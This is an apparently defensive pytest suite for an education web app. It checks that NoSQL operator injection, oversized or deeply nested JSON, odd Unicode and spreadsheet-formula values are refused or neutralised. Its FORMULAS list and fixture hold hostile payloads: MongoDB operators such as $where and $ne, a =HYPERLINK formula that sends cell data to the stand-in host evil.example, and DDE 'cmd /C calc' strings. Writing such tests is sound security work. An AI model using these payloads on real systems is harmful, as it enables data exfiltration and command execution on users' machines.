"""Injection and abuse: operator-shaped values, oversized / deeply nested / odd-Unicode bodies,
huge skill lists, spreadsheet formulas in exports, operator-like keys in ``question_skills``.

The operator-injection cases are generated from the OpenAPI request schemas (every JSON body
property with a declared type, one level into arrays of objects, and every documented query
parameter), not written by hand, so a new endpoint is covered the day it is documented. Every
injected request must be refused with 400/422 naming the field, and the database must be
unchanged afterwards (documents of every non-cache collection compared before/after).
"""
from __future__ import annotations

import csv
import hashlib
import io
import itertools
import json

import pytest

from knowgap import create_app
from knowgap.core import db as dbmod
from knowgap.core.extensions import limiter
from tests.canvas_sandbox import SandboxServer, build_world
from tests.conftest import canvas_settings, make_config

PASSWORD = "Str0ngPassw0rd"
OPERATORS = [{"$ne": None}, {"$gt": ""}, {"$where": "1"}]
STRING_OPERATORS = ["$ne", "$where", '{"$ne": null}']
ACHIEVEUP_PREFIXES = ("/auth", "/canvas", "/achieveup")
_seq = itertools.count()


# ------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def env():
    server = SandboxServer(build_world(seed=7), throttle=False).start()
    config = make_config(**canvas_settings(server), auth_rate_limit="100000/minute")
    database = dbmod.connect("", "injection")
    app = create_app(config, db=database)
    app.config["TESTING"] = True
    limiter.reset()
    client = app.test_client()
    response = client.post("/auth/signup", json={
        "name": "Injector", "email": "inj@example.edu", "password": PASSWORD,
        "canvasApiToken": "teacher-token"})
    assert response.status_code == 201, response.get_json()
    headers = {"Authorization": f"Bearer {response.get_json()['token']}"}
    matrix = client.post("/achieveup/matrix/create", headers=headers, json={
        "course_id": "101", "matrix_name": "Base", "skills": ["Cells", "Genetics"]})
    assert matrix.status_code == 201
    spec = client.get("/openapi.json").get_json()
    yield {"app": app, "client": client, "db": database, "headers": headers, "spec": spec,
           "matrix": matrix.get_json()["_id"]}
    limiter.reset()
    server.stop()


def _headers(env, path: str) -> dict:
    if path.startswith(ACHIEVEUP_PREFIXES):
        return env["headers"]
    return {"Authorization": "Bearer teacher-token"}


def _snapshot(database) -> dict:
    """Hash of every document of every collection that is not a cache / log / session table."""
    state = {}
    for name in sorted(database.list_collection_names()):
        lowered = name.lower()
        if any(part in lowered for part in ("cache", "log", "denylist", "refresh", "rate")):
            continue
        docs = sorted(json.dumps(d, sort_keys=True, default=str) for d in database[name].find())
        state[name] = (len(docs), hashlib.sha256("\n".join(docs).encode()).hexdigest())
    return state


# ------------------------------------------------------------------ generated cases


def _read_spec() -> dict:
    """The OpenAPI document (it does not depend on config), read at collection time."""
    application = create_app(make_config(), db=dbmod.connect("", "injection_spec"))
    return application.test_client().get("/openapi.json").get_json()


SPEC = _read_spec()


def _resolve(spec, schema):
    while isinstance(schema, dict) and "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        schema = spec["components"]["schemas"][name]
    return schema or {}


def _baseline(spec, schema, name=""):
    """A plausible value for a schema (ids are real course ids)."""
    schema = _resolve(spec, schema)
    kind = schema.get("type")
    if "enum" in schema:
        return schema["enum"][0]
    if kind == "string":
        return "101" if "A-Za-z0-9" in schema.get("pattern", "") else "Plain text"
    if kind in ("integer", "number"):
        return 1
    if kind == "boolean":
        return True
    if kind == "array":
        return [_baseline(spec, schema.get("items", {}))] if schema.get("minItems") else []
    if kind == "object" or "properties" in schema:
        props = schema.get("properties", {})
        return {k: _baseline(spec, props[k], k) for k in schema.get("required", [])}
    return "x"


def _json_body_schema(op):
    content = (op.get("requestBody") or {}).get("content", {})
    return (content.get("application/json") or {}).get("schema")


def _injection_cases():
    """(label, path, method, field path, body builder) for every typed JSON body property."""
    spec = SPEC
    cases = []
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            if method not in ("post", "put", "patch"):
                continue
            schema = _resolve(spec, _json_body_schema(op))
            props = schema.get("properties", {})
            for prop, prop_schema in props.items():
                prop_schema = _resolve(spec, prop_schema)
                if "type" not in prop_schema and "properties" not in prop_schema:
                    continue            # untyped (Raw) fields: see test_untyped_fields_are_ignored
                cases.append((path, method, prop, None))
                items = _resolve(spec, prop_schema.get("items", {}))
                if prop_schema.get("type") == "array" and "properties" in items:
                    for sub, sub_schema in items["properties"].items():
                        if "type" in _resolve(spec, sub_schema):
                            cases.append((path, method, prop, sub))
    return cases


def _query_cases():
    spec = SPEC
    cases = []
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            if method not in ("get", "post", "put", "patch", "delete"):
                continue
            for param in op.get("parameters", []):
                param = _resolve(spec, param)
                if param.get("in") == "query":
                    cases.append((path, method, param["name"]))
    return cases


INJECTION_CASES = _injection_cases()
QUERY_CASES = _query_cases()


def _concrete(path: str, env) -> str:
    """Fill path parameters with real ids."""
    return (path.replace("{course_id}", "101").replace("{ref}", env["matrix"])
            .replace("{matrix_id}", env["matrix"]).replace("{student_id}", "1001")
            .replace("{badge_id}", "0123456789abcdef01234567").replace("{job_id}", "job1")
            .replace("{quiz_id}", "20001"))


@pytest.mark.parametrize("path,method,prop,sub", INJECTION_CASES,
                         ids=[f"{m.upper()} {p} {f}{'.' + s if s else ''}"
                              for p, m, f, s in INJECTION_CASES])
def test_operator_values_in_body_are_refused(env, path, method, prop, sub):
    spec, client = env["spec"], env["client"]
    schema = _resolve(spec, _json_body_schema(spec["paths"][path][method]))
    before = _snapshot(env["db"])
    for payload in OPERATORS:
        body = _baseline(spec, schema)
        if sub is None:
            body[prop] = payload
        else:
            items = _resolve(spec, _resolve(spec, schema["properties"][prop])["items"])
            item = _baseline(spec, items)
            item[sub] = payload
            body[prop] = [item]
        response = client.open(_concrete(path, env), method=method.upper(), json=body,
                               headers=_headers(env, path))
        detail = response.get_json()
        assert response.status_code in (400, 422), (
            f"{method.upper()} {path} {prop}={payload}: {response.status_code} {detail}")
        assert detail["statusCode"] == response.status_code
        if response.status_code == 422:
            assert prop in (detail.get("details") or {}), detail
    assert _snapshot(env["db"]) == before


@pytest.mark.parametrize("path,method,name", QUERY_CASES,
                         ids=[f"{m.upper()} {p} ?{n}" for p, m, n in QUERY_CASES])
def test_operator_values_in_query_are_refused(env, path, method, name):
    client = env["client"]
    before = _snapshot(env["db"])
    for query in [{name: value} for value in STRING_OPERATORS]:
        response = client.open(_concrete(path, env), method=method.upper(),
                               query_string=query, headers=_headers(env, path))
        assert response.status_code in (400, 422), (
            f"{method.upper()} {path} ?{query}: {response.status_code} "
            f"{response.get_data(as_text=True)[:300]}")
        assert response.get_json()["statusCode"] == response.status_code
    assert _snapshot(env["db"]) == before


@pytest.mark.parametrize("path,method,name", [c for c in QUERY_CASES if c[1] == "get"],
                         ids=[f"{m.upper()} {p} ?{n}[$ne]" for p, m, n in QUERY_CASES
                              if m == "get"])
def test_qs_style_operator_keys_are_not_interpreted(env, path, method, name):
    """Flask does not expand ``a[$ne]=x`` into ``{"a": {"$ne": "x"}}``: such a key is an unknown
    parameter — refused by strict query schemas, ignored by routes that read single args."""
    client = env["client"]
    before = _snapshot(env["db"])
    url, headers = _concrete(path, env), _headers(env, path)
    plain = client.open(url, method="GET", headers=headers)
    for query in ({f"{name}[$ne]": "x"}, {f"{name}[$gt]": ""}):
        response = client.open(url, method="GET", query_string=query, headers=headers)
        assert response.status_code < 500
        if response.status_code < 400:          # ignored: same answer as without it
            assert response.status_code == plain.status_code
    assert _snapshot(env["db"]) == before


def test_cases_were_generated():
    assert len(INJECTION_CASES) > 80
    assert {"/achieveup/matrix/create", "/add-token", "/auth/signup"} <= {
        p for p, *_ in INJECTION_CASES}
    assert len(QUERY_CASES) >= 4


def test_untyped_fields_are_ignored(env):
    """``PUT /achieveup/matrix/{id}`` accepts echoed read-only fields (``_id``, ``created_at``…)
    untyped; operator values there are dropped, never used in a query or stored."""
    client, db = env["client"], env["db"]
    response = client.put(f"/achieveup/matrix/{env['matrix']}", headers=env["headers"], json={
        "_id": {"$ne": None}, "created_at": {"$gt": ""}, "updated_at": {"$where": "1"},
        "description": "Echoed."})
    assert response.status_code == 200, response.get_json()
    stored = [d for d in db["AchieveUp_Skill_Matrices"].find() if str(d["_id"]) == env["matrix"]]
    assert len(stored) == 1
    assert not any(isinstance(v, dict) for v in stored[0].values())


# ------------------------------------------------------------------ size and shape


@pytest.mark.parametrize("path", ["/achieveup/matrix/create", "/add-token", "/auth/signup"])
def test_oversized_body_is_413_envelope(env, path):
    body = json.dumps({"course_id": "101", "matrix_name": "x" * (3 * 1024 * 1024),
                       "skills": []})
    before = _snapshot(env["db"])
    response = env["client"].post(path, data=body, content_type="application/json",
                                  headers=_headers(env, path))
    assert response.status_code == 413
    assert response.get_json() == {"error": "payload_too_large", "statusCode": 413,
                                   "message": response.get_json()["message"]}
    assert response.get_json()["message"]
    assert _snapshot(env["db"]) == before


@pytest.mark.parametrize("depth", [100, 2_000, 10_000])
@pytest.mark.parametrize("shape", ["array", "object"])
@pytest.mark.parametrize("path", ["/achieveup/matrix/create", "/get-course-quizzes",
                                  "/auth/login", "/achieveup/import"])
def test_deeply_nested_json_is_refused(env, path, shape, depth):
    if shape == "array":
        nested = "[" * depth + "]" * depth
    else:
        nested = '{"a":' * depth + "1" + "}" * depth
    body = '{"course_id": "101", "data": ' + nested + "}"
    response = env["client"].post(path, data=body, content_type="application/json",
                                  headers=_headers(env, path))
    assert response.status_code in (400, 413, 422), response.get_data(as_text=True)[:300]
    assert response.get_json()["statusCode"] == response.status_code


# ------------------------------------------------------------------ unicode


def _create(env, name, skills):
    return env["client"].post("/achieveup/matrix/create", headers=env["headers"], json={
        "course_id": "101", "matrix_name": name, "skills": skills})


def test_nul_in_names_is_refused(env):
    before = _snapshot(env["db"])
    assert _create(env, "bad\x00name", ["Cells"]).status_code == 422
    assert _create(env, "Good name", ["ce\x00lls"]).status_code == 422
    assert _snapshot(env["db"]) == before


@pytest.mark.parametrize("raw", [
    b'{"course_id": "101", "matrix_name": "lone \\ud800 high", "skills": ["Cells"]}',
    b'{"course_id": "101", "matrix_name": "Lone low", "skills": ["a \\udc00 b"]}',
    b'{"course_id": "101", "matrix_name": "Lone desc", "skills": ["Cells"], '
    b'"description": "\\udfff"}',
])
def test_lone_surrogates_are_a_clean_4xx(env, raw):
    before = _snapshot(env["db"])
    response = env["client"].post("/achieveup/matrix/create", data=raw,
                                  content_type="application/json", headers=env["headers"])
    assert 400 <= response.status_code < 500, response.get_data(as_text=True)[:300]
    assert response.get_json()["statusCode"] == response.status_code
    assert _snapshot(env["db"]) == before


def test_lone_surrogate_on_knowgap_and_auth(env):
    client = env["client"]
    for path, raw in [
        ("/update-course-context",
         b'{"course_id": "101", "course_context": "x \\ud800", "access_token": "teacher-token"}'),
        ("/auth/signup", b'{"name": "\\ud800", "email": "s@example.edu", "password": "Str0ngPassw0rd"}'),
    ]:
        response = client.post(path, data=raw, content_type="application/json")
        assert 400 <= response.status_code < 500, (path, response.get_data(as_text=True)[:300])


def test_rtl_marks_and_emoji_round_trip(env):
    name = "\u202eevil\u202c \u200f\u05e9\u05dc\u05d5\u05dd \U0001f393 \u540d\u524d"
    skills = ["\U0001f9ec Genetics", "\u0627\u0644\u062e\u0644\u064a\u0629 \u200f",
              "Zero\u200dwidth"]
    response = _create(env, name, skills)
    assert response.status_code == 201, response.get_json()
    created = response.get_json()
    assert created["matrix_name"] == name and created["skills"] == skills
    listed = env["client"].get("/achieveup/matrix/course/101", headers=env["headers"]).get_json()
    mine = [m for m in listed if m["_id"] == created["_id"]]
    assert mine and mine[0]["matrix_name"] == name and mine[0]["skills"] == skills


def test_100kb_strings_are_refused(env):
    before = _snapshot(env["db"])
    big = "\U0001f393" * 25_000                                 # 100 KB of UTF-8
    assert _create(env, big, ["Cells"]).status_code == 422
    assert _create(env, "Big skill", [big]).status_code == 422
    response = env["client"].put("/achieveup/course-description/101", headers=env["headers"],
                                 json={"description": "x" * 100_000})
    assert response.status_code == 422
    assert _snapshot(env["db"]) == before


# ------------------------------------------------------------------ huge skill lists


def test_201_skills_are_refused(env):
    before = _snapshot(env["db"])
    response = _create(env, "Too many", [f"Skill {i}" for i in range(201)])
    assert response.status_code == 422
    assert "skills" in response.get_json()["details"]
    assert _create(env, "Just enough", [f"Skill {i}" for i in range(200)]).status_code == 201
    after = _snapshot(env["db"])
    assert after["AchieveUp_Skill_Matrices"][0] == before["AchieveUp_Skill_Matrices"][0] + 1


def test_10mb_skill_list_is_413(env):
    before = _snapshot(env["db"])
    skills = [f"Skill {i:07d} " + "y" * 90 for i in range(100_000)]        # ~10 MB
    response = _create(env, "Ten megabytes", skills)
    assert response.status_code == 413
    assert response.get_json()["statusCode"] == 413
    assert _snapshot(env["db"]) == before


# ------------------------------------------------------------------ question_skills keys


@pytest.mark.parametrize("key", ["$where", "$ne", "a.b", "answers.0", "$gt.x", ".", "$"])
def test_operator_like_question_ids_are_refused(env, key):
    before = _snapshot(env["db"])
    response = env["client"].post("/achieveup/skills/assign", headers=env["headers"], json={
        "course_id": "101", "question_skills": {key: ["Cells"]}})
    assert response.status_code == 422, response.get_json()
    assert "question_skills" in response.get_json()["details"]
    assert _snapshot(env["db"]) == before


# ------------------------------------------------------------------ spreadsheet formulas


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+2", "\r=3"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def formula_matrix(env):
    response = env["client"].post("/achieveup/matrix/create", headers=env["headers"], json={
        "course_id": "102", "matrix_name": '=HYPERLINK("http://evil.example","Open")',
        "skills": ["+cmd", "-2+3", "@SUM(A1)", "=1+1"]})
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def test_formulas_are_stored_as_text(env, formula_matrix):
    listed = env["client"].get("/achieveup/matrix/course/102", headers=env["headers"]).get_json()
    mine = [m for m in listed if m["_id"] == formula_matrix["_id"]][0]
    assert mine["matrix_name"] == '=HYPERLINK("http://evil.example","Open")'
    assert mine["skills"] == ["+cmd", "-2+3", "@SUM(A1)", "=1+1"]


def _values(formula_matrix):
    return {formula_matrix["matrix_name"], *formula_matrix["skills"]}


def test_csv_export_neutralizes_formulas(env, formula_matrix):
    response = env["client"].get("/achieveup/export/102?format=csv", headers=env["headers"])
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)], "formula cells not neutralized"
    for value in _values(formula_matrix):
        assert "'" + value in cells, value


def test_xlsx_export_neutralizes_formulas(env, formula_matrix):
    openpyxl = pytest.importorskip("openpyxl")
    response = env["client"].get("/achieveup/export/102?format=xlsx", headers=env["headers"])
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in xlsx"
    strings = [c.value for c in cells if isinstance(c.value, str)]
    assert not [s for s in strings if s.startswith(DANGEROUS)]
    for value in _values(formula_matrix):
        assert "'" + value in strings, value


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_skill_names_round_trip_through_csv(env, formula):
    name = " ".join(formula.split())                  # names are whitespace-normalized
    created = env["client"].post("/achieveup/matrix/create", headers=env["headers"], json={
        "course_id": "102", "matrix_name": f"F {next(_seq)}", "skills": [formula]})
    assert created.status_code == 201, created.get_json()
    assert created.get_json()["skills"] == [name]
    text = env["client"].get("/achieveup/export/102?format=csv",
                             headers=env["headers"]).get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    if name.startswith(DANGEROUS):
        assert "'" + name in cells and name not in cells
